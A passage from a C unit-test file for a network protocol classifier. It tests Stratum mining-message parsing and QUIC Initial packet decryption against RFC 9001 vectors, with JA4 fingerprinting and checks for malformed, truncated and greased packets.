				&s);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	STR_EQ(s.method, "mining.submit");
	STR_EQ(s.params[1], "1f2e");
	assert_int_equal(s.n_params, 2);

	r = vigil_stratum_parse((const uint8_t *)resp, sizeof(resp) - 1, &s);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_true(s.is_response);
	assert_false(s.has_error);
	assert_int_equal(s.method.len, 0);
	assert_int_equal(vigil_l7_guess((const uint8_t *)resp,
					sizeof(resp) - 1, false, 6, 3333,
					50000),
			 VIGIL_L7_STRATUM);
	r = vigil_stratum_parse((const uint8_t *)err, sizeof(err) - 1, &s);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_true(s.has_error);

	r = vigil_stratum_parse((const uint8_t *)sub, 30, &s);
	assert_int_equal(r.rc, VIGIL_L7_NEED_MORE);
	r = vigil_stratum_parse((const uint8_t *)"{\"a\":1}\n", 8, &s);
	assert_int_equal(r.rc, VIGIL_L7_NOT_MINE);
	r = vigil_stratum_parse((const uint8_t *)"GET /", 5, &s);
	assert_int_equal(r.rc, VIGIL_L7_NOT_MINE);
	r = vigil_stratum_parse(
		(const uint8_t *)"{\"method\":\"mining.x\",\"params\":[}\n",
		33, &s);
	assert_int_equal(r.rc, VIGIL_L7_MALFORMED);
	assert_int_equal(r.why, VIGIL_L7_WHY_STRATUM_BAD_JSON);
}

static void
test_stratum_deep(void **state)
{
	uint8_t b[200];
	struct vigil_stratum_msg s;
	struct vigil_l7_ret r;
	size_t n = 0;

	(void)state;
	memcpy(b, "{\"method\":\"mining.x\",\"params\":[1,", 33);
	n = 33;
	for (int i = 0; i < 40; i++)
		b[n++] = '[';
	for (int i = 0; i < 40; i++)
		b[n++] = ']';
	b[n++] = ']';
	b[n++] = '}';
	b[n++] = '\n';
	r = vigil_stratum_parse(b, (uint32_t)n, &s);
	assert_int_equal(r.rc, VIGIL_L7_MALFORMED);
	assert_int_equal(r.why, VIGIL_L7_WHY_STRATUM_BAD_JSON);
}

/* --- QUIC -------------------------------------------------------------- */

/* RFC 9001 Appendix A.2: the client's Initial, DCID 8394c8f03e515708. */
static const char rfc9001_client_initial[] =
	"c000000001088394c8f03e5157080000449e7b9aec34d1b1c98dd7689fb8ec11"
	"d242b123dc9bd8bab936b47d92ec356c0bab7df5976d27cd449f63300099f399"
	"1c260ec4c60d17b31f8429157bb35a1282a643a8d2262cad67500cadb8e7378c"
	"8eb7539ec4d4905fed1bee1fc8aafba17c750e2c7ace01e6005f80fcb7df6212"
	"30c83711b39343fa028cea7f7fb5ff89eac2308249a02252155e2347b63d58c5"
	"457afd84d05dfffdb20392844ae812154682e9cf012f9021a6f0be17ddd0c208"
	"4dce25ff9b06cde535d0f920a2db1bf362c23e596d11a4f5a6cf3948838a3aec"
	"4e15daf8500a6ef69ec4e3feb6b1d98e610ac8b7ec3faf6ad760b7bad1db4ba3"
	"485e8a94dc250ae3fdb41ed15fb6a8e5eba0fc3dd60bc8e30c5c4287e53805db"
	"059ae0648db2f64264ed5e39be2e20d82df566da8dd5998ccabdae053060ae6c"
	"7b4378e846d29f37ed7b4ea9ec5d82e7961b7f25a9323851f681d582363aa5f8"
	"9937f5a67258bf63ad6f1a0b1d96dbd4faddfcefc5266ba6611722395c906556"
	"be52afe3f565636ad1b17d508b73d8743eeb524be22b3dcbc2c7468d54119c74"
	"68449a13d8e3b95811a198f3491de3e7fe942b330407abf82a4ed7c1b311663a"
	"c69890f4157015853d91e923037c227a33cdd5ec281ca3f79c44546b9d90ca00"
	"f064c99e3dd97911d39fe9c5d0b23a229a234cb36186c4819e8b9c5927726632"
	"291d6a418211cc2962e20fe47feb3edf330f2c603a9d48c0fcb5699dbfe58964"
	"25c5bac4aee82e57a85aaf4e2513e4f05796b07ba2ee47d80506f8d2c25e50fd"
	"14de71e6c418559302f939b0e1abd576f279c4b2e0feb85c1f28ff18f58891ff"
	"ef132eef2fa09346aee33c28eb130ff28f5b766953334113211996d20011a198"
	"e3fc433f9f2541010ae17c1bf202580f6047472fb36857fe843b19f5984009dd"
	"c324044e847a4f4a0ab34f719595de37252d6235365e9b84392b061085349d73"
	"203a4a13e96f5432ec0fd4a1ee65accdd5e3904df54c1da510b0ff20dcc0c77f"
	"cb2c0e0eb605cb0504db87632cf3d8b4dae6e705769d1de354270123cb11450e"
	"fc60ac47683d7b8d0f811365565fd98c4c8eb936bcab8d069fc33bd801b03ade"
	"a2e1fbc5aa463d08ca19896d2bf59a071b851e6c239052172f296bfb5e724047"
	"90a2181014f3b94a4e97d117b438130368cc39dbb2d198065ae3986547926cd2"
	"162f40a29f0c3c8745c0f50fba3852e566d44575c29d39a03f0cda721984b6f4"
	"40591f355e12d439ff150aab7613499dbd49adabc8676eef023b15b65bfc5ca0"
	"6948109f23f350db82123535eb8a7433bdabcb909271a6ecbcb58b936a88cd4e"
	"8f2e6ff5800175f113253d8fa9ca8885c2f552e657dc603f252e1a8e308f76f0"
	"be79e2fb8f5d5fbbe2e30ecadd220723c8c0aea8078cdfcb3868263ff8f09400"
	"54da48781893a7e49ad5aff4af300cd804a6b6279ab3ff3afb64491c85194aab"
	"760d58a606654f9f4400e8b38591356fbf6425aca26dc85244259ff2b19c41b9"
	"f96f3ca9ec1dde434da7d2d392b905ddf3d1f9af93d1af5950bd493f5aa731b4"
	"056df31bd267b6b90a079831aaf579be0a39013137aac6d404f518cfd4684064"
	"7e78bfe706ca4cf5e9c5453e9f7cfd2b8b4c8d169a44e55c88d4a9a7f9474241"
	"e221af44860018ab0856972e194cd934";

static const uint8_t rfc_dcid[8] = { 0x83, 0x94, 0xc8, 0xf0,
				     0x3e, 0x51, 0x57, 0x08 };
static const uint8_t salt_v1[20] = {
	0x38, 0x76, 0x2c, 0xf7, 0xf5, 0x59, 0x34, 0xb3, 0x4d, 0x17,
	0x9a, 0xe6, 0xa4, 0xc8, 0x0c, 0xad, 0xcc, 0xbb, 0x7f, 0x0a,
};

/* RFC 9001 A.1: the client's Initial secrets and keys. */
static void
test_quic_keys(void **state)
{
	uint8_t s[32], cs[32], k[16], iv[12], hp[16], want[32];
	size_t n;

	(void)state;
	vigil_l7_hkdf_extract(salt_v1, 20, rfc_dcid, 8, s);
	n = unhex("7db5df06e7a69e432496adedb00851923595221596ae2ae9fb8115c1e9ed0a44",
		  want, sizeof(want));
	assert_memory_equal(s, want, n);
	assert_int_equal(vigil_l7_hkdf_expand_label(s, "client in", cs, 32), 0);
	n = unhex("c00cf151ca5be075ed0ebfb5c80323c42d6b7db67881289af4008f1f6c357aea",
		  want, sizeof(want));
	assert_memory_equal(cs, want, n);
	assert_int_equal(vigil_l7_hkdf_expand_label(cs, "quic key", k, 16), 0);
	n = unhex("1f369613dd76d5467730efcbe3b1a22d", want, sizeof(want));
	assert_memory_equal(k, want, n);
	assert_int_equal(vigil_l7_hkdf_expand_label(cs, "quic iv", iv, 12), 0);
	n = unhex("fa044b2f42a3fd3b46fb255c", want, sizeof(want));
	assert_memory_equal(iv, want, n);
	assert_int_equal(vigil_l7_hkdf_expand_label(cs, "quic hp", hp, 16), 0);
	n = unhex("9f50449e04a0e810283a1e9933adedd2", want, sizeof(want));
	assert_memory_equal(hp, want, n);
	assert_int_equal(vigil_l7_hkdf_expand_label(cs, "x", hp, 0), -1);
}

static uint8_t rfc_pkt[1200];

static void
test_quic_rfc9001_initial(void **state)
{
	static struct vigil_quic_crypto_buf cb;
	struct vigil_quic_initial q;
	struct vigil_l7_ret r;
	char b[13], c[13], ja4[40];

	(void)state;
	assert_int_equal(unhex(rfc9001_client_initial, rfc_pkt,
			       sizeof(rfc_pkt)),
			 1200);
	memset(&cb, 0, sizeof(cb));
	r = vigil_quic_parse_initial(cr, rfc_pkt, sizeof(rfc_pkt), &cb, &q);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_int_equal(r.len, 1200);
	assert_int_equal(q.version, 1);
	assert_int_equal(q.dcid_len, 8);
	assert_memory_equal(q.dcid, rfc_dcid, 8);
	assert_int_equal(q.scid_len, 0);
	assert_int_equal(q.packet_number, 2);
	assert_true(q.has_client_hello);
	STR_EQ(q.ch.server_name, "example.com");
	assert_int_equal(q.ch.n_alpn, 1);
	STR_EQ(q.ch.alpn[0], "alpn");
	assert_int_equal(q.ch.max_version, 0x0304);
	/* ciphers 1301 1302; extensions: server_name, renegotiation_info
	 * (ff01), supported_groups (000a), ALPN, status_request (0005),
	 * key_share (0033), supported_versions (002b), signature_algorithms
	 * (000d), psk_key_exchange_modes (002d), record_size_limit (001c),
	 * quic_transport_parameters (0039): 11 */
	sha12("1301,1302", b);
	sha12("0005,000a,000d,001c,002b,002d,0033,0039,ff01_0403,0503,0603,"
	      "0203,0804,0805,0806",
	      c);
	snprintf(ja4, sizeof(ja4), "q13d0211an_%s_%s", b, c);
	assert_string_equal(q.ch.ja4, ja4);
	assert_int_equal(vigil_l7_guess(rfc_pkt, sizeof(rfc_pkt), true, 17,
					50000, 443),
			 VIGIL_L7_QUIC);

	/* one bit changed in the ciphertext: the tag does not verify */
	rfc_pkt[600] ^= 1;
	memset(&cb, 0, sizeof(cb));
	r = vigil_quic_parse_initial(cr, rfc_pkt, sizeof(rfc_pkt), &cb, &q);
	assert_int_equal(r.rc, VIGIL_L7_MALFORMED);
	assert_int_equal(r.why, VIGIL_L7_WHY_QUIC_DECRYPT);
	rfc_pkt[600] ^= 1;
	/* cut short: the Length runs past the datagram */
	r = vigil_quic_parse_initial(cr, rfc_pkt, 600, &cb, &q);
	assert_int_equal(r.rc, VIGIL_L7_MALFORMED);
	assert_int_equal(r.why, VIGIL_L7_WHY_QUIC_BAD_HEADER);
	/* an unknown version (the client's next Initial may be of a known
	 * one: wait for it), a short header */
	rfc_pkt[4] = 0x07;
	r = vigil_quic_parse_initial(cr, rfc_pkt, sizeof(rfc_pkt), &cb, &q);
	assert_int_equal(r.rc, VIGIL_L7_NEED_MORE);
	assert_int_equal(q.version, 0x00000007);
	rfc_pkt[4] = 0x01;
	rfc_pkt[0] = 0x40;
	r = vigil_quic_parse_initial(cr, rfc_pkt, sizeof(rfc_pkt), &cb, &q);
	assert_int_equal(r.rc, VIGIL_L7_NOT_MINE);
	rfc_pkt[0] = 0xc0;
	r = vigil_quic_parse_initial(NULL, rfc_pkt, sizeof(rfc_pkt), &cb, &q);
	assert_int_equal(r.why, VIGIL_L7_WHY_CRYPTO);
}

/* A flow that starts with a version negotiation, or with a client's
 * Initial of a greased version (nDPI's quic_interop_V.pcapng): QUIC, and
 * the parser waits for the client's next Initial. */
static void
test_quic_version_negotiation(void **state)
{
	static struct vigil_quic_crypto_buf cb;
	static uint8_t g[1240];
	struct vigil_quic_initial q;
	struct vigil_l7_ret r;
	struct mb m;

	(void)state;
	m.n = 0;
	put8(&m, 0x80 | 0x3a);
	put32(&m, 0);
	put8(&m, 8);
	for (int i = 0; i < 8; i++)
		put8(&m, 0x11);
	put8(&m, 8);
	for (int i = 0; i < 8; i++)
		put8(&m, 0x22);
	put32(&m, 0x00000001);
	put32(&m, 0xff00001d);
	assert_int_equal(vigil_l7_guess(m.b, (uint32_t)m.n, false, 17, 443,
					40000),
			 VIGIL_L7_QUIC);
	memset(&cb, 0, sizeof(cb));
	r = vigil_quic_parse_initial(cr, m.b, (uint32_t)m.n, &cb, &q);
	assert_int_equal(r.rc, VIGIL_L7_NEED_MORE);
	assert_int_equal(q.version, 0);
	assert_false(q.has_client_hello);
	/* cut within the connection IDs: not QUIC, nothing read beyond */
	for (uint32_t cut = 7; cut < 24; cut++)
		assert_int_equal(vigil_l7_guess(m.b, cut, false, 17, 443,
						40000),
				 VIGIL_L7_NONE);
	/* a version list that is not whole 4-byte versions: not QUIC */
	assert_int_equal(vigil_l7_guess(m.b, (uint32_t)m.n - 1, false, 17,
					443, 40000),
			 VIGIL_L7_NONE);

	/* a client's Initial of version 0x0a0a0a0a, padded to 1240 */
	memset(g, 0, sizeof(g));
	g[0] = 0xc3;
	g[1] = g[2] = g[3] = g[4] = 0x0a;
	g[5] = 8;
	memset(g + 6, 0x33, 8);
	g[14] = 0;
	memset(g + 15, 0x5a, sizeof(g) - 15);
	assert_int_equal(vigil_l7_guess(g, sizeof(g), true, 17, 40000, 443),
			 VIGIL_L7_QUIC);
	r = vigil_quic_parse_initial(cr, g, sizeof(g), &cb, &q);
	assert_int_equal(r.rc, VIGIL_L7_NEED_MORE);
	assert_int_equal(q.version, 0x0a0a0a0a);
	/* the same header in a short datagram is not taken for QUIC */
	assert_int_equal(vigil_l7_guess(g, 200, true, 17, 40000, 443),
			 VIGIL_L7_NONE);
	r = vigil_quic_parse_initial(cr, g, 200, &cb, &q);
	assert_int_equal(r.rc, VIGIL_L7_NOT_MINE);

	/* then the client's v1 Initial is read as usual */
	assert_int_equal(unhex(rfc9001_client_initial, rfc_pkt,
			       sizeof(rfc_pkt)),
			 1200);
	r = vigil_quic_parse_initial(cr, rfc_pkt, sizeof(rfc_pkt), &cb, &q);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	STR_EQ(q.ch.server_name, "example.com");

	/* a DNS query whose id looks like a long header stays DNS */
	dns_header(&m, 0xc012, 0x0100, 1, 0);
	putname(&m, "www.example.com", -1);
	put16(&m, 1);
	put16(&m, 1);
	while (m.n < 1300)
		put8(&m, 0);
	assert_int_equal(vigil_l7_guess(m.b, (uint32_t)m.n, true, 17, 40000,
					53),
			 VIGIL_L7_DNS);
}

/* Protect a v1 client Initial carrying frames (the RFC 9001 5 steps, with
 * EVP here, independent of the parser's code path). */
static uint32_t quic_protect_version = 1;
static const uint8_t *quic_protect_salt;

static size_t
quic_protect(const uint8_t *dcid, size_t dcl, uint32_t pn,
	     const uint8_t *frames, size_t fl, uint8_t *out)
{
	uint8_t s[32], cs[32], k[16], iv[12], hp[16], mask[16];
	size_t n = 0, pn_off, plen = 4 + fl + 16;
	int ol = 0;
	EVP_CIPHER_CTX *x = EVP_CIPHER_CTX_new();

	vigil_l7_hkdf_extract(quic_protect_salt ? quic_protect_salt : salt_v1,
			      20, dcid, dcl, s);
	vigil_l7_hkdf_expand_label(s, "client in", cs, 32);
	vigil_l7_hkdf_expand_label(cs, "quic key", k, 16);
	vigil_l7_hkdf_expand_label(cs, "quic iv", iv, 12);
	vigil_l7_hkdf_expand_label(cs, "quic hp", hp, 16);
	out[n++] = 0xc3; /* Initial, 4-byte packet number */
	for (int i = 0; i < 4; i++)
		out[n++] = (uint8_t)(quic_protect_version >> (24 - 8 * i));
	out[n++] = (uint8_t)dcl;
	memcpy(out + n, dcid, dcl);
	n += dcl;
	out[n++] = 0; /* SCID */
	out[n++] = 0; /* token */
	out[n++] = (uint8_t)(0x40 | (plen >> 8));
	out[n++] = (uint8_t)plen;
	pn_off = n;
	for (int i = 0; i < 4; i++)
		out[n++] = (uint8_t)(pn >> (24 - 8 * i));
	for (int i = 0; i < 4; i++)
		iv[8 + i] ^= (uint8_t)(pn >> (24 - 8 * i));
	assert_int_equal(EVP_EncryptInit_ex(x, EVP_aes_128_gcm(), NULL, k, iv),
			 1);
	assert_int_equal(EVP_EncryptUpdate(x, NULL, &ol, out, (int)n), 1);
	assert_int_equal(EVP_EncryptUpdate(x, out + n, &ol, frames, (int)fl),
			 1);
	assert_int_equal(EVP_EncryptFinal_ex(x, out + n + fl, &ol), 1);
	assert_int_equal(EVP_CIPHER_CTX_ctrl(x, EVP_CTRL_GCM_GET_TAG, 16,
					     out + n + fl),
			 1);
	n += fl + 16;
	assert_int_equal(EVP_EncryptInit_ex(x, EVP_aes_128_ecb(), NULL, hp,
					    NULL),
			 1);
	assert_int_equal(EVP_EncryptUpdate(x, mask, &ol, out + pn_off + 4, 16),
			 1);
	EVP_CIPHER_CTX_free(x);
	out[0] ^= mask[0] & 0x0f;
	for (int i = 0; i < 4; i++)
		out[pn_off + i] ^= mask[1 + i];
	return n;
}

/* A ClientHello over two Initial packets, the second first, the first
 * one's CRYPTO frames out of order, with PING and PADDING between. */
static void
test_quic_split_hello(void **state)
{
	static struct vigil_quic_crypto_buf cb;
	struct mb m;
	struct vigil_quic_initial q;
	struct vigil_l7_ret r;
	uint8_t f1[1300], f2[1300], p1[1400], p2[1400], hs[600];
	size_t hl, n1 = 0, n2 = 0, l1, l2;
	const uint8_t dcid[] = { 1, 2, 3, 4, 5, 6, 7, 8, 9, 10 };

	(void)state;
	build_hello(&m, "h3", true);
	hl = m.n - 5; /* the handshake message, without the record */
	memcpy(hs, m.b + 5, hl);
	/* packet 1: bytes [40, 80) then PING then [0, 40); packet 2: the
	 * rest, then padding */
	f1[n1++] = 0x06;
	f1[n1++] = 40;
	f1[n1++] = 40;
	memcpy(f1 + n1, hs + 40, 40);
	n1 += 40;
	f1[n1++] = 0x01;
	f1[n1++] = 0x06;
	f1[n1++] = 0;
	f1[n1++] = 40;
	memcpy(f1 + n1, hs, 40);
	n1 += 40;
	memset(f1 + n1, 0, 100);
	n1 += 100;
	f2[n2++] = 0x06;
	f2[n2++] = 0x40 | 0;
	f2[n2++] = 80;
	f2[n2++] = (uint8_t)(0x40 | ((hl - 80) >> 8));
	f2[n2++] = (uint8_t)(hl - 80);
	memcpy(f2 + n2, hs + 80, hl - 80);
	n2 += hl - 80;
	memset(f2 + n2, 0, 200);
	n2 += 200;
	l1 = quic_protect(dcid, sizeof(dcid), 0, f1, n1, p1);
	l2 = quic_protect(dcid, sizeof(dcid), 1, f2, n2, p2);

	memset(&cb, 0, sizeof(cb));
	r = vigil_quic_parse_initial(cr, p2, (uint32_t)l2, &cb, &q);
	assert_int_equal(r.rc, VIGIL_L7_NEED_MORE);
	assert_false(q.has_client_hello);
	r = vigil_quic_parse_initial(cr, p1, (uint32_t)l1, &cb, &q);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_int_equal(q.packet_number, 0);
	assert_true(q.has_client_hello);
	STR_EQ(q.ch.server_name, "a.vigil.test");
	STR_EQ(q.ch.alpn[0], "h3");
	assert_memory_equal(q.ch.ja4, "q13d0307h3_", 11);
	assert_int_equal(cb.packets, 2);
}

/* A client's Initial of a greased version (0x?a?a?a?a, to force a version
 * negotiation), protected as draft-29 does (quic_interop_V.pcapng): read
 * with draft-29's keys; one these keys do not open waits for the next. */
static const uint8_t salt_d29[20] = {
	0xaf, 0xbf, 0xec, 0x28, 0x99, 0x93, 0xd2, 0x4c, 0x9e, 0x97,
	0x86, 0xf1, 0x9c, 0x61, 0x11, 0xe0, 0x43, 0x90, 0xa8, 0x99,
};

static void
test_quic_greased_initial(void **state)
{
	static struct vigil_quic_crypto_buf cb;
	struct mb m;
	struct vigil_quic_initial q;
	struct vigil_l7_ret r;
	uint8_t f[1300], pk[1400];
	size_t hl, n = 0, l;
	const uint8_t dcid[] = { 9, 8, 7, 6, 5, 4, 3, 2 };

	(void)state;
	build_hello(&m, "h3", true);
	hl = m.n - 5;
	f[n++] = 0x06;
	f[n++] = 0;
	f[n++] = (uint8_t)(0x40 | (hl >> 8));
	f[n++] = (uint8_t)hl;
	memcpy(f + n, m.b + 5, hl);
	n += hl;
	memset(f + n, 0, 1200 - n);
	n = 1200;
	quic_protect_version = 0x1a2a3a4a;
	quic_protect_salt = salt_d29;
	l = quic_protect(dcid, sizeof(dcid), 0, f, n, pk);
	quic_protect_version = 1;
	quic_protect_salt = NULL;
	assert_int_equal(vigil_l7_guess(pk, (uint32_t)l, true, 17, 40000,
					443),
			 VIGIL_L7_QUIC);
	memset(&cb, 0, sizeof(cb));
	r = vigil_quic_parse_initial(cr, pk, (uint32_t)l, &cb, &q);
	assert_int_equal(r.rc, VIGIL_L7_DONE);
	assert_int_equal(q.version, 0x1a2a3a4a);
	assert_true(q.has_client_hello);
	STR_EQ(q.ch.server_name, "a.vigil.test");
	/* altered: the tag does not verify, not malformed: wait */
	pk[600] ^= 1;
	memset(&cb, 0, sizeof(cb));
	r = vigil_quic_parse_initial(cr, pk, (uint32_t)l, &cb, &q);
	assert_int_equal(r.rc, VIGIL_L7_NEED_MORE);
	assert_false(q.has_client_hello);
	assert_int_equal(q.version, 0x1a2a3a4a);
}

/* --- allocations ------------------------------------------------------- */

static void
test_no_alloc_after_init(void **state)
{
	static struct vigil_quic_crypto_buf cb;
	struct vigil_tls_client_hello h;
	struct vigil_tls_server_hello s;
	struct vigil_quic_initial q;
	struct vigil_l7_ret r;
	struct mb m;

	(void)state;
	assert_int_equal(unhex(rfc9001_client_initial, rfc_pkt,
			       sizeof(rfc_pkt)),
			 1200);
	build_hello(&m, "h2", true);
	/* a first round (lazy initialisation inside libcrypto, if any, is
	 * part of init), then the counted rounds */
	vigil_tls_parse_client(cr, m.b, (uint32_t)m.n, &h);
	memset(&cb, 0, sizeof(cb));
	vigil_quic_parse_initial(cr, rfc_pkt, sizeof(rfc_pkt), &cb, &q);
	n_alloc = 0;
	for (int i = 0; i < 100; i++) {
		r = vigil_tls_parse_client(cr, m.b, (uint32_t)m.n, &h);
		assert_int_equal(r.rc, VIGIL_L7_DONE);
		r = vigil_tls_parse_client(cr, tls12_client_hello,
					   sizeof(tls12_client_hello), &h);
		assert_int_equal(r.rc, VIGIL_L7_DONE);
		r = vigil_tls_parse_server(cr, tls12_server_flight,
					   sizeof(tls12_server_flight), &s);
		assert_int_equal(r.rc, VIGIL_L7_DONE);
		memset(&cb, 0, sizeof(cb));
		r = vigil_quic_parse_initial(cr, rfc_pkt, sizeof(rfc_pkt), &cb,
					     &q);
		assert_int_equal(r.rc, VIGIL_L7_DONE);
	}
	assert_int_equal(n_alloc, 0);
}

static int
setup(void **state)
{
	(void)state;
	n_alloc = 0;
	cr = vigil_l7_crypto_create();
	if (cr == NULL)
		return -1;
	assert_true(n_alloc > 0); /* the counter sees libcrypto */
	return 0;
}

static int
teardown(void **state)
{
	(void)state;
	vigil_l7_crypto_free(cr);
	return 0;
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_escape),
		cmocka_unit_test(test_names),
		cmocka_unit_test(test_dns_query),
		cmocka_unit_test(test_dns_response),
		cmocka_unit_test(test_dns_tcp),
		cmocka_unit_test(test_dns_many_answers),
		cmocka_unit_test(test_dns_loop_and_long_name),
		cmocka_unit_test(test_dns_not_mine),
		cmocka_unit_test(test_http_request),
		cmocka_unit_test(test_http_response),
		cmocka_unit_test(test_http_bad),
		cmocka_unit_test(test_http_lenient_request_line),
		cmocka_unit_test(test_tls_fingerprint_memo),
		cmocka_unit_test(test_tls_grease_ja3_ja4),
		cmocka_unit_test(test_tls_openssl_hello),
		cmocka_unit_test(test_tls_split_hello),
		cmocka_unit_test(test_tls_server),
		cmocka_unit_test(test_tls_server_after_alert),
		cmocka_unit_test(test_tls_bad),
		cmocka_unit_test(test_ssh),
		cmocka_unit_test(test_stratum),
		cmocka_unit_test(test_stratum_deep),
		cmocka_unit_test(test_quic_keys),
		cmocka_unit_test(test_quic_rfc9001_initial),
		cmocka_unit_test(test_quic_split_hello),
		cmocka_unit_test(test_quic_version_negotiation),
		cmocka_unit_test(test_quic_greased_initial),
		cmocka_unit_test(test_no_alloc_after_init),
	};

	/* Before libcrypto allocates anything, or the call is refused. */
	if (!CRYPTO_set_mem_functions(count_malloc, count_realloc,
				      count_free)) {
		fprintf(stderr, "CRYPTO_set_mem_functions refused\n");
		return 1;
	}
	return cmocka_run_group_tests(tests, setup, teardown);
}
